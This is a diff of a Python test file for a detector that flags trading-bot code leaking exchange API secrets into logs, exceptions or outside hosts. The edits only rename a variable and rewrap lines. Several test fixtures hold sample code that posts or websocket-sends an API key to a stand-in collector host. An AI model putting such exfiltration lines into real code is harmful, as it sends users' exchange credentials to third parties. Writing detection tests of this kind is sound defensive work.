@@ -46,7 +46,7 @@ def test_flow_through_functions_of_the_module():
         "print(get_secret())\n"
     )
     res = found(src)
-    assert [(l, c) for l, c, _m in res] == [(7, "BOT201"), (12, "BOT201")]
+    assert [(line, c) for line, c, _m in res] == [(7, "BOT201"), (12, "BOT201")]
     assert "BINANCE_API_SECRET from os.environ (line 3) reaches logger.warning" in res[0][2]
 
 
@@ -57,7 +57,7 @@ def test_self_attribute_set_in_one_method_used_in_another():
         "    def run(self):\n        log.info('secret %s', self.secret)\n"
         "    def __init__(self):\n        self.secret = os.getenv('BYBIT_API_SECRET')\n"
     )
-    assert [(l, c) for l, c, _m in found(src)] == [(5, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(5, "BOT201")]
 
 
 def test_asset_tokens_and_metadata_names_are_not_credentials():
@@ -124,14 +124,14 @@ def test_comprehension_selecting_credential_keys_keeps_them():
            "logging.basicConfig(level=logging.DEBUG)\n"
            "safe = {k: v for k, v in cfg.items() if k not in ('apiKey', 'secret')}\n"
            "print(safe)\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(4, "BOT207")]
+    assert [(line, c) for line, c, _m in found(src)] == [(4, "BOT207")]
 
 
 def test_config_section_leading_to_a_credential():
     src = HEAD + ("import json\ncfg = json.load(open('c.json'))\nk = cfg['exchange']['secret']\n"
                   "logger.info('exchange: %s', cfg['exchange'])\nlogger.info('pairs: %s', cfg['pairs'])\n"
                   "logger.info('name: %s', cfg['exchange']['name'])\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(7, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(7, "BOT201")]
 
 
 def test_freqtrade_strategy_config_holds_credentials():
@@ -139,7 +139,7 @@ def test_freqtrade_strategy_config_holds_credentials():
            "class S(IStrategy):\n    def bot_start(self):\n"
            "        logger.info(f'{self.config}')\n        logger.info(f'{self.config[\"exchange\"]}')\n"
            "        logger.info(f'{self.config[\"exchange\"][\"name\"]} {self.config[\"stake_currency\"]}')\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(6, "BOT201"), (7, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT201"), (7, "BOT201")]
 
 
 def test_pydantic_settings_and_secretstr():
@@ -150,7 +150,7 @@ def test_pydantic_settings_and_secretstr():
            "logging.info('secret %s', settings.okx_secret)\n"  # masked
            "logging.info('lev %s', settings.leverage)\n"
            "logging.info('s %s', settings.okx_secret.get_secret_value())\n")  # 12
-    assert [(l, c) for l, c, _m in found(src)] == [(9, "BOT201"), (12, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(9, "BOT201"), (12, "BOT201")]
 
 
 def test_dataclass_repr_false_fields_are_hidden():
@@ -159,7 +159,7 @@ def test_dataclass_repr_false_fields_are_hidden():
            "@dataclass\nclass D:\n    name: str\n    api_secret: str\n"
            "s = os.environ['BYBIT_API_SECRET']\n"
            "logging.info('%s', C('bybit', s))\nlogging.info('%s', D('bybit', s))\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(13, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(13, "BOT201")]
 
 
 @pytest.mark.parametrize("url_expr", [
@@ -180,14 +180,15 @@ def test_raw_socket_and_websocket_egress():
                   "    await ws.send(json.dumps({'k': KEY}))\n"
                   "    ev = await websockets.connect('wss://collector.example.net/ws')\n"
                   "    await ev.send(KEY)\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(6, "BOT205"), (11, "BOT205")]
+    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT205"), (11, "BOT205")]
 
 
 def test_session_base_url_host():
     src = HEAD + ("import httpx\nc = httpx.Client(base_url='https://collector.example.net')\n"
                   "c.post('/v1/keys', json={'s': KEY})\n"
-                  "b = httpx.Client(base_url='https://api.binance.com')\nb.get('/api/v3/account', headers={'X-MBX-APIKEY': KEY})\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(6, "BOT205")]
+                  "b = httpx.Client(base_url='https://api.binance.com')\n"
+                  "b.get('/api/v3/account', headers={'X-MBX-APIKEY': KEY})\n")
+    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT205")]
 
 
 @pytest.mark.parametrize("stmt,hit", [
@@ -209,14 +210,15 @@ def test_argparse_options_named_by_help_text():
     src = ("import argparse, logging\np = argparse.ArgumentParser()\n"
            "p.add_argument('--key', help='API key')\np.add_argument('--symbol')\nargs = p.parse_args()\n"
            "logging.info('symbol %s', args.symbol)\nlogging.info('key %s', args.key)\nprint(args)\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(7, "BOT201"), (8, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(7, "BOT201"), (8, "BOT201")]
 
 
 def test_exception_built_before_raise_and_sentry_context():
     src = HEAD + ("import sentry_sdk\nerr = RuntimeError(f'bad key {KEY}')\nraise err\n"
                   "sentry_sdk.set_context('exchange', {'secret': KEY})\n"
-                  "credentials_exception = RuntimeError('could not validate credentials')\nraise credentials_exception\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(6, "BOT202"), (7, "BOT203")]
+                  "credentials_exception = RuntimeError('could not validate credentials')\n"
+                  "raise credentials_exception\n")
+    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT202"), (7, "BOT203")]
 
 
 def test_custom_repr_and_constructed_objects():
@@ -227,4 +229,4 @@ def test_custom_repr_and_constructed_objects():
                   "a = Acct(KEY)\nlogger.info('%s', a)\nlogger.info('%r', a)\nlogger.info(f'{a!r}')\n"
                   "accts = [Acct(KEY)]\nprint(accts)\nfor x in accts:\n    print(x)\n"
                   "client = Client('k', KEY)\npprint(vars(client))\nprint(client)\n")
-    assert [(l, c) for l, c, _m in found(src)] == [(15, "BOT201"), (16, "BOT201"), (18, "BOT201"), (22, "BOT201")]
+    assert [(line, c) for line, c, _m in found(src)] == [(15, "BOT201"), (16, "BOT201"), (18, "BOT201"), (22, "BOT201")]
